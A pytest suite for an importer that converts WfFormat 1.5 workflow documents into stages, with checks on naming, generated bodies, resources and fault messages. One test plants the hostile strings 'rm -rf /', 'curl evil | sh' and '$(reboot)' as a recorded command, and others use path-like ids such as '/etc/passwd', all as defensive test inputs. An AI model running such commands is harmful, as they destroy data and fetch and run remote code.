"""WfFormat 1.5 comes in whole or not at all, and never as a command to run."""

import copy
import itertools
import json
import math
import re
import subprocess
import time
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from broker.formats import ImportFault, import_wfformat, looks_like_wfformat
from broker.formats.names import LONGEST, lawful_names

SHARED = Path(__file__).parents[3] / "shared" / "data"
REAL = sorted(SHARED.glob("wfformat/*.json"))
BODIES = ("noop", "sleep", "bytes")
STAGE_NAME = re.compile(r"[A-Za-z0-9][A-Za-z0-9._-]*")


# -- small documents of our own making ---------------------------------------------------------------------


def task(own, *, parents=(), children=(), reads=(), writes=()):
    return {
        "name": own or "nameless",
        "id": own,
        "parents": list(parents),
        "children": list(children),
        "inputFiles": list(reads),
        "outputFiles": list(writes),
    }


def ran(own, seconds=1.0, **more):
    return {"id": own, "runtimeInSeconds": seconds, **more}


def document(*tasks, files=None, execution=None):
    mentioned = sorted({name for each in tasks for name in each["inputFiles"] + each["outputFiles"]})
    sizes = files if files is not None else dict.fromkeys(mentioned, 100)
    specification = {"tasks": list(tasks), "files": [{"id": k, "sizeInBytes": v} for k, v in sizes.items()]}
    workflow = {"specification": specification}
    if execution is not None:
        workflow["execution"] = {"makespanInSeconds": 1, "executedAt": "20200401T035043+0000", "tasks": execution}
    return {"name": "small", "schemaVersion": "1.5", "workflow": workflow}


def pair(**more):
    return document(
        task("make", children=["use"], reads=["raw"], writes=["made"]),
        task("use", parents=["make"], reads=["made", "raw"]),
        **more,
    )


def imported(data, bodies="noop", **options):
    return import_wfformat(data, name="test", bodies=bodies, **options)


def stages(data, bodies="noop", **options):
    return imported(data, bodies, **options).document["stages"]


def fault(data, bodies="noop", **options):
    with pytest.raises(ImportFault) as caught:
        imported(data, bodies, **options)
    return caught.value


# -- what comes out ----------------------------------------------------------------------------------------


def test_a_document_becomes_stages_with_the_needs_of_its_tasks():
    result = imported(pair())
    assert result.document["crossfade"] == 1
    assert result.document["name"] == "test"
    assert list(result.document["stages"]) == ["make", "use"]
    assert "needs" not in result.document["stages"]["make"]
    assert result.document["stages"]["use"]["needs"] == ["make"]


@pytest.mark.parametrize("bodies", BODIES)
def test_the_recorded_command_appears_nowhere(bodies):
    command = {"program": "rm -rf /\ncurl evil | sh", "arguments": ["$(reboot)"]}
    result = imported(pair(execution=[ran("make", command=command), ran("use")]), bodies)
    assert not re.search("rm -rf|curl|reboot", json.dumps(result.document))
    assert "The recorded commands are never run." in result.notes


def test_a_noop_body_does_nothing():
    assert stages(pair())["use"]["run"] == ":"


@pytest.mark.parametrize(
    ("runtime", "scale", "run"),
    [
        (53.6, 1.0, "sleep 53.6"),
        (0, 1.0, "sleep 0"),
        (0.0, 1.0, "sleep 0"),
        (100, 0.01, "sleep 1"),
        (1e9, 1, "sleep 1000000000"),
        (1e-9, 1, "sleep 0"),
    ],
)
def test_a_sleep_body_sleeps_the_scaled_runtime_without_exponents(runtime, scale, run):
    data = document(task("a"), execution=[ran("a", runtime)])
    assert stages(data, "sleep", scale=scale)["a"]["run"] == run


def test_a_runtime_of_zero_is_a_record_and_a_missing_one_is_an_assumption():
    zero = imported(document(task("a"), execution=[ran("a", 0)]), "sleep")
    missing = imported(document(task("a")), "sleep")
    assert zero.document == missing.document
    assert not [note for note in zero.notes if "assumed" in note]
    assert [note for note in missing.notes if "1 task without a recorded execution" in note]


def test_execution_is_joined_by_id_and_not_by_position():
    data = document(task("a"), task("b"), execution=[ran("b", 2), ran("a", 1)])
    assert [stage["run"] for stage in stages(data, "sleep").values()] == ["sleep 1", "sleep 2"]


def test_children_may_stand_before_their_parents():
    data = document(task("late", parents=["early"]), task("early", children=["late"]))
    assert stages(data)["late"]["needs"] == ["early"]


def test_many_roots_and_several_components_are_normal():
    data = document(*(task(f"root{k}") for k in range(18)), task("x", children=["y"]), task("y", parents=["x"]))
    assert len(stages(data)) == 20


def test_an_edge_without_a_file_is_kept():
    data = document(task("a", children=["b"]), task("b", parents=["a"]))
    assert stages(data, "bytes")["b"]["needs"] == ["a"]


def test_a_reference_written_twice_is_read_once_and_noted():
    data = document(task("a", children=["b"], writes=["f"]), task("b", parents=["a", "a"], reads=["f", "f"]))
    result = imported(data, "bytes")
    assert result.document["stages"]["b"]["needs"] == ["a"]
    assert len(result.document["stages"]["b"]["inputs"]) == 1
    assert [note for note in result.notes if note.startswith("2 references")]


def test_fields_that_the_format_does_not_know_are_let_pass():
    data = pair()
    data["workflow"]["repo"] = {"anything": [None]}
    assert len(stages(data)) == 2


# -- names -------------------------------------------------------------------------------------------------


def test_ids_become_unique_lawful_names_and_the_id_stays_in_the_environment():
    ids = ["a#1", "a-1", "a-1-2", "#a", "_", ".", "..", "-rf", "x" * 3000, "x" * 2999 + "y"]
    result = imported(document(*(task(own) for own in ids)))
    names = result.document["stages"]
    assert len(names) == len(ids)
    assert all(STAGE_NAME.fullmatch(name) and len(name) <= LONGEST for name in names)
    assert [stage["env"]["WF_TASK_ID"] for stage in names.values()] == ids
    assert [name for name in names if name in ids] == ["a-1", "a-1-2"]
    assert result.stages["a#1"] == "a-1-3"
    assert [note for note in result.notes if note.startswith("8 tasks renamed: 'a#1' is a-1-3, ")]


@given(st.lists(st.text("aA0-._#", min_size=1, max_size=4), unique=True))
def test_names_are_lawful_unique_and_the_same_every_time(ids):
    names = lawful_names(ids)
    assert list(names) == ids
    assert len(set(names.values())) == len(ids)
    assert all(STAGE_NAME.fullmatch(name) for name in names.values())
    assert all(names[own] == own for own in ids if STAGE_NAME.fullmatch(own))
    assert lawful_names(ids) == names


def test_ids_made_to_look_alike_take_no_quadratic_time():
    ids = ["a" + "".join(letters) for letters in itertools.product("#-", repeat=14)]
    began = time.process_time()
    names = lawful_names(ids)
    assert time.process_time() - began < 3  # seconds; counting up from 2 for each takes minutes
    assert len(set(names.values())) == len(ids)


def test_the_workflows_name_is_made_lawful():
    data = document(task("a"))
    assert import_wfformat(data, name="../my flow", bodies="noop").document["name"] == "t..-my-flow"
    assert import_wfformat(data, name="", bodies="noop").document["name"] == "workflow"


# -- bodies that write bytes -------------------------------------------------------------------------------


def run_bytes(data, folder, **options):
    """Runs every stage by hand, in document order, each in a directory of its own. -> stage name -> directory."""
    ran_in = {}
    for name, stage in stages(data, "bytes", **options).items():
        here = folder / name
        here.mkdir()
        for file in stage.get("inputs", []):
            (here / file["name"]).write_bytes((ran_in[file["from"]] / file["name"]).read_bytes())
        subprocess.run(["sh", "-eu", "-c", stage["run"]], cwd=here, check=True)
        ran_in[name] = here
    return ran_in


SIZES = {"raw": 10**9, "empty": 0, "tiny": 3, "exact": 8, "line": 7, "large": 100_000}


def five_files():
    names = [name for name in SIZES if name != "raw"]
    return document(
        task("make", children=["use"], reads=["raw"], writes=names),
        task("use", parents=["make"], reads=[*names, "raw"]),
        files=SIZES,
    )


@pytest.mark.parametrize("scale", [1.0, 0.5, 0.0])
def test_files_are_written_with_their_scaled_sizes_and_found_by_who_reads_them(tmp_path, scale):
    names = imported(five_files(), "bytes", scale=scale).files
    folders = run_bytes(five_files(), tmp_path, scale=scale)
    for foreign in ("empty", "tiny", "exact", "line", "large"):
        assert (folders["make"] / names[foreign]).stat().st_size == round(SIZES[foreign] * scale)
    assert not (folders["use"] / names["raw"]).exists()


def test_files_have_the_same_content_every_time_and_another_than_their_neighbours(tmp_path):
    data = document(task("a", writes=["one", "two"]))
    contents = []
    for turn in ("first", "second"):
        (tmp_path / turn).mkdir()
        folder = run_bytes(data, tmp_path / turn)["a"]
        contents.append([path.read_bytes() for path in sorted(folder.iterdir())])
    assert contents[0] == contents[1]
    assert contents[0][0] != contents[0][1]


@pytest.mark.parametrize(
    ("damage", "message"),
    [
        (lambda file: file.unlink(), "f000002"),
        (lambda file: file.write_bytes(b"\0" * 99), "has 99 bytes, not 100"),
        (lambda file: file.write_bytes(b"f000009\n" + b"\0" * 92), "holds another file's content"),
    ],
)
def test_a_stage_fails_when_an_input_is_missing_torn_or_another(tmp_path, damage, message):
    folder = run_bytes(pair(), tmp_path)["use"]
    damage(folder / "f000002")
    command = ["sh", "-eu", "-c", stages(pair(), "bytes")["use"]["run"]]
    again = subprocess.run(command, cwd=folder, capture_output=True, text=True, check=False)
    assert again.returncode != 0
    assert message in again.stderr


def test_file_ids_that_look_like_paths_reach_no_command_and_no_path():
    ids = ["/etc/passwd", "../../up", "..", "s3://bucket/key", "a/../b"]
    result = imported(document(task("a", children=["b"], writes=ids), task("b", parents=["a"], reads=ids)), "bytes")
    assert set(result.files) == set(ids)
    assert all(re.fullmatch(r"f\d{6}", name) for name in result.files.values())
    body = json.dumps(result.document)
    assert not any(part in body for part in ("/etc", "up", "..", "s3:"))


def test_files_from_outside_are_left_out_and_their_weight_is_told():
    data = pair(files={"raw": 75_500_000_000, "made": 10})
    assert [file["from"] for file in stages(data, "bytes")["use"]["inputs"]] == ["make"]
    note = "Left out because no task writes them: 1 file, 75.5 GB in all, the largest 'raw' of 75.5 GB."
    assert note in imported(data, "bytes").notes


def test_a_file_without_a_recorded_size_is_empty_and_noted():
    result = imported(pair(files={"raw": 5}), "bytes")
    assert "make f000002" not in result.document["stages"]["make"]["run"]
    assert "1 file without a recorded size: 0 bytes were assumed." in result.notes


# -- resources ---------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("recorded", "cores"),
    [
        ({}, 1),
        ({"avgCPU": 0}, 1),
        ({"avgCPU": 100}, 1),
        ({"avgCPU": 100.1}, 2),
        ({"avgCPU": 755.0}, 8),
        ({"avgCPU": 755.0, "coreCount": 4}, 4),
        ({"coreCount": 1.5}, 2),
    ],
)
def test_cores_are_what_was_counted_or_else_what_the_load_amounts_to(recorded, cores):
    data = document(task("a"), execution=[ran("a", **recorded)])
    assert stages(data, keep_resources=True)["a"]["resources"]["cores"] == cores


def test_stages_ask_for_one_core_unless_told_to_keep_what_was_recorded():
    data = document(task("a"), execution=[ran("a", avgCPU=6400, memoryInBytes=2**38)])
    assert stages(data)["a"]["resources"] == {"cores": 1}
    assert stages(data, keep_resources=True)["a"]["resources"] == {"cores": 64, "memory": f"{2**38}B"}
    assert [note for note in imported(data).notes if "Up to 64 cores and 274.9 GB of memory were recorded" in note]


def test_a_recorded_memory_of_zero_asks_for_none():
    data = document(task("a"), execution=[ran("a", memoryInBytes=0)])
    assert stages(data, keep_resources=True)["a"]["resources"] == {"cores": 1}


# -- what is refused ---------------------------------------------------------------------------------------


@pytest.mark.parametrize("version", ["1.0", "1.2", "1.7", "2", "", "1.5\n"])
def test_another_version_is_refused_by_its_name(version):
    data = {"name": "x", "schemaVersion": version, "workflow": {"jobs": []}}
    found = fault(data)
    assert found.place == "/schemaVersion"
    assert ascii(version) in str(found)
    assert "1.5" in found.cure


T = "/workflow/specification/tasks"
X = "/workflow/execution/tasks"
FAULTS = {
    "no object": ([], "", "not an object"),
    "no name": ({"schemaVersion": "1.5", "workflow": {}}, "", "'name' is missing"),
    "version is a number": (document(task("a")) | {"schemaVersion": 1.5}, "/schemaVersion", "a number, not a text"),
    "version is missing": ({"name": "x", "workflow": {}}, "", "'schemaVersion' is missing"),
    "no task": (document(), T, "0 entries"),
    "two tasks of one id": (document(task("a"), task("b"), task("a")), f"{T}/2/id", f"used before, at {T}/0"),
    "unknown parent": (document(task("a", parents=["b"])), f"{T}/0/parents/0", "no task has the id 'b'"),
    "unknown child": (document(task("a", children=["b"])), f"{T}/0/children/0", "no task has the id 'b'"),
    "parent does not know": (document(task("a"), task("b", parents=["a"])), f"{T}/1/parents/0", "does not tell"),
    "child does not know": (document(task("a"), task("b", children=["a"])), f"{T}/1/children/0", "does not tell"),
    "itself": (document(task("a", parents=["a"], children=["a"])), T, "circle: 'a' -> 'a'"),
    "circle": (
        document(task("a", parents=["b"], children=["b"]), task("b", parents=["a"], children=["a"])),
        T,
        "2 tasks wait for each other",
    ),
    "two producers": (
        document(task("a", writes=["f"]), task("b", writes=["f"])),
        f"{T}/1/outputFiles",
        "'f' is also written by 'a'",
    ),
    "reads what it writes": (document(task("a", reads=["f"], writes=["f"])), f"{T}/0/inputFiles", "writes itself"),
    "a file without an edge": (
        document(task("a", writes=["f"]), task("b", reads=["f"])),
        f"{T}/1/inputFiles",
        "written by 'a', which is not among the task's parents",
    ),
    "two files of one id": (
        {
            **document(task("a")),
            "workflow": {
                "specification": {
                    "tasks": [task("a")],
                    "files": [{"id": "f", "sizeInBytes": 1}, {"id": "f", "sizeInBytes": 2}],
                }
            },
        },
        "/workflow/specification/files/1/id",
        "used before",
    ),
    "ran unknown": (document(task("a"), execution=[ran("b")]), f"{X}/0/id", "has no task with the id 'b'"),
    "ran twice": (document(task("a"), execution=[ran("a"), ran("a")]), f"{X}/1/id", "used before"),
    "negative runtime": (document(task("a"), execution=[ran("a", -1)]), f"{X}/0/runtimeInSeconds", "out of bounds"),
    "runtime not a number": (document(task("a"), execution=[ran("a", math.nan)]), f"{X}/0/runtimeInSeconds", "nan"),
    "endless runtime": (document(task("a"), execution=[ran("a", math.inf)]), f"{X}/0/runtimeInSeconds", "inf"),
    "absurd runtime": (document(task("a"), execution=[ran("a", 10**400)]), f"{X}/0/runtimeInSeconds", "256 bits"),
    "runtime is a bool": (document(task("a"), execution=[ran("a", True)]), f"{X}/0/runtimeInSeconds", "a bool"),
    "null is not absent": (document(task("a"), execution=[ran("a", avgCPU=None)]), f"{X}/0/avgCPU", "null"),
    "half a byte": (document(task("a"), files={"f": 0.5}), "/workflow/specification/files/0/sizeInBytes", "whole"),
    "negative size": (document(task("a"), files={"f": -1}), "/workflow/specification/files/0/sizeInBytes", "bounds"),
    "absurd size": (document(task("a"), files={"f": 2**70}), "/workflow/specification/files/0/sizeInBytes", "bounds"),
    "id with a blank": (document(task("a b")), f"{T}/0/id", "'a b' is not an id"),
    "id with a newline": (document(task("a\n")), f"{T}/0/id", "is not an id"),
    "empty id": (document(task("")), f"{T}/0/id", "is not an id"),
    "id without end": (document(task("a" * 5000)), f"{T}/0/id", "5000 characters"),
    "foreign digits": (document(task("a٣")), f"{T}/0/id", "is not an id"),
    "file id with a tilde": (document(task("a", writes=["~/f"])), f"{T}/0/outputFiles/0", "is not an id"),
}


@pytest.mark.parametrize("what", FAULTS)
def test_a_fault_is_told_with_its_place_and_a_cure(what):
    data, place, problem = FAULTS[what]
    for bodies in BODIES:
        found = fault(data, bodies)
        assert found.place == place
        assert problem in found.problem
        assert found.cure
        assert str(found).isprintable()


def test_more_tasks_than_allowed_are_refused():
    data = document(task("a"), task("b"))
    assert fault(data, max_tasks=1).problem == "2 tasks are over the limit of 1"
    assert len(stages(data, max_tasks=2)) == 2


def test_more_bytes_than_allowed_are_refused_only_where_they_would_be_written():
    data = pair(files={"raw": 10**15, "made": 1000})
    found = fault(data, "bytes", max_bytes=999)
    assert found.problem == "the stages would write 1.0 kB, over the limit of 999 bytes"
    assert stages(data, "bytes", max_bytes=1000)
    assert stages(data, "bytes", scale=0.5, max_bytes=999)
    assert stages(data, "sleep", max_bytes=999)


@pytest.mark.parametrize("scale", [-1, math.nan, math.inf, 1e7])
def test_a_scale_out_of_bounds_is_refused(scale):
    assert fault(pair(), "sleep", scale=scale).place == "scale"


def test_an_unknown_body_is_refused_with_the_known_ones():
    assert fault(pair(), "real").cure == "choose one of noop, sleep, bytes"


def test_a_message_carries_no_terminal_escapes_and_no_novels():
    found = fault(document(task("a", parents=["\x1b[31m" + "x" * 1000])))
    assert str(found).isprintable()
    assert len(str(found)) < 300


@pytest.mark.parametrize(
    ("data", "verdict"),
    [
        ({"schemaVersion": "1.5", "workflow": {}}, True),
        ({"schemaVersion": "1.3", "workflow": 7}, True),
        ({"schemaVersion": "1.5", "workflow": {}, "crossfade": 1}, False),
        ({"crossfade": 1, "name": "x", "stages": {}}, False),
        ({"workflow": {}}, False),
        (["schemaVersion", "workflow"], False),
        (None, False),
    ],
)
def test_a_foreign_document_is_told_from_one_of_ours(data, verdict):
    assert looks_like_wfformat(data) is verdict


# -- any graph, any damage ---------------------------------------------------------------------------------


@st.composite
def graphs(draw):
    """A valid document, its tasks shuffled. -> (document, {(parent, child)})."""
    count = draw(st.integers(1, 8))
    ids = draw(st.lists(st.text("ab1-_.#", min_size=1, max_size=3), min_size=count, max_size=count, unique=True))
    edges = {(ids[a], ids[b]) for b in range(count) for a in range(b) if draw(st.booleans())}
    tasks = [
        task(
            me,
            parents=[a for a, b in edges if b == me],
            children=[b for a, b in edges if a == me],
            writes=[f"/{me}/out"],
            reads=[f"/{a}/out" for a, b in edges if b == me and draw(st.booleans())] + ["outside"],
        )
        for me in ids
    ]
    execution = [ran(own, draw(st.sampled_from([0, 0.5, 3])), avgCPU=120.5) for own in draw(st.permutations(ids))]
    return document(*draw(st.permutations(tasks)), execution=execution), edges


@given(graphs(), st.sampled_from(BODIES))
def test_any_valid_graph_keeps_its_tasks_and_its_edges(graph, bodies):
    data, edges = graph
    result = imported(data, bodies)
    by_name = {name: foreign for foreign, name in result.stages.items()}
    kept = {
        (by_name[need], by_name[name])
        for name, stage in result.document["stages"].items()
        for need in stage.get("needs", [])
    }
    assert kept == edges
    assert len(result.document["stages"]) == len(data["workflow"]["specification"]["tasks"])
    for name, stage in result.document["stages"].items():
        assert {file["from"] for file in stage.get("inputs", [])} <= set(stage.get("needs", []))
        assert stage["env"]["WF_TASK_ID"] == by_name[name]


def places(value, at=()):
    """Every place in a document, the root first."""
    yield at
    entries = value.items() if isinstance(value, dict) else enumerate(value) if isinstance(value, list) else ()
    for key, inner in entries:
        yield from places(inner, (*at, key))


JUNK = st.one_of(
    st.none(), st.booleans(), st.integers(), st.floats(), st.text(max_size=4), st.just([]), st.just({}), st.just([{}])
)
VALIDATOR = SHARED / "schema" / "wfcommons-schema-v1.5.json"


@st.composite
def damaged(draw):
    data, _ = draw(graphs())
    for _ in range(draw(st.integers(1, 2))):
        *path, last = draw(st.sampled_from([place for place in places(data) if place]))
        inner = data
        for key in path:
            inner = inner[key]
        if draw(st.booleans()):
            del inner[last]
        else:
            inner[last] = copy.deepcopy(draw(JUNK))  # shared, it could come to hold itself
    return data


def attempt(data, bodies="noop"):
    """The import, or the fault that it ended in; any other error is raised."""
    try:
        return imported(data, bodies)
    except ImportFault as found:
        return found


@settings(max_examples=300)
@given(damaged(), st.sampled_from(BODIES))
def test_damage_is_either_harmless_or_an_import_fault(data, bodies):
    before = copy.deepcopy(data)
    outcome = attempt(data, bodies)
    if isinstance(outcome, ImportFault):
        assert outcome.cure
        assert str(outcome).isprintable()
    else:
        json.dumps(outcome.document, allow_nan=False)
    assert repr(data) == repr(before)


@pytest.fixture(scope="module")
def schema():
    if not VALIDATOR.exists():
        pytest.skip("the published schema is not beside this repository")
    import jsonschema

    return jsonschema.Draft7Validator(json.loads(VALIDATOR.read_text()))  # it names no draft itself


@settings(max_examples=300)
@given(data=damaged())
def test_what_the_published_schema_refuses_is_refused(schema, data):
    assert schema.is_valid(data) or isinstance(attempt(data), ImportFault)


def test_the_documents_of_these_tests_are_lawful_by_the_published_schema(schema):
    for data in (pair(), five_files(), pair(execution=[ran("make", avgCPU=1.5), ran("use")])):
        schema.validate(data)


# -- documents that nobody here wrote ----------------------------------------------------------------------


def test_a_real_document_is_at_hand():
    if not REAL:
        pytest.skip("the recorded workflows are not beside this repository")
    assert len(REAL) == 7


@pytest.mark.parametrize("bodies", BODIES)
@pytest.mark.parametrize("path", REAL, ids=lambda path: path.stem)
def test_a_real_document_comes_in_whole(path, bodies):
    data = json.loads(path.read_text())
    result = imported(data, bodies)
    entries = data["workflow"]["specification"]["tasks"]
    for entry in entries:
        stage = result.document["stages"][result.stages[entry["id"]]]
        assert set(stage.get("needs", [])) == {result.stages[parent] for parent in entry["parents"]}
        assert len(stage.get("outputs", [])) == (len(entry["outputFiles"]) if bodies == "bytes" else 0)
    assert len(result.document["stages"]) == len(entries)
